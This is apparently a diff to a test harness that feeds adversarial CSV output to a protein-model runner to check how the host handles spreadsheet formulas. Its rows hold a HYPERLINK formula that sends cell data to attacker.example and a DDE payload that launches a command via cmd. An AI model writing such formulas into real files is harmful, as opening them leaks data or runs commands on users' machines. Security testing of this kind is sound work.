@@ -28,11 +28,15 @@ from runner.core.models import ProteinModel, register_model
 OUT = "/out/result.csv"
 
 
-def _attack() -> str | None:
+def _input() -> list[dict]:
     if "--checkpoint" not in sys.argv or "--input" not in sys.argv:
-        return None  # the training, or a saturation: nothing to play
+        return []  # the training, or a saturation: nothing to play
     with open(sys.argv[sys.argv.index("--input") + 1], newline="") as fh:
-        rows = list(csv.DictReader(fh))
+        return list(csv.DictReader(fh))
+
+
+def _attack() -> str | None:
+    rows = _input()
     return rows[0].get("attack") if rows else None
 
 
@@ -60,7 +64,9 @@ def _formula(tmp: str) -> None:
         writer = csv.writer(fh)
         # the contract's table for an input of `mutant,attack` (the input's column kept), formulas everywhere
         writer.writerow(["mutant", "attack", "sequence", "prediction", "error", "measured", "in_train"])
-        writer.writerow(["H24A", "formula", '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "-0.5", "", "", ""])
+        # the first row's mutant as the input has it (the host checks each row's mutant and input cells)
+        first = _input()[0]["mutant"]
+        writer.writerow([first, "formula", '=HYPERLINK("http://attacker.example/?x="&A1,"open")', "-0.5", "", "", ""])
         writer.writerow(["@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "+MKS", "", "-2+3", "", ""])
 
 
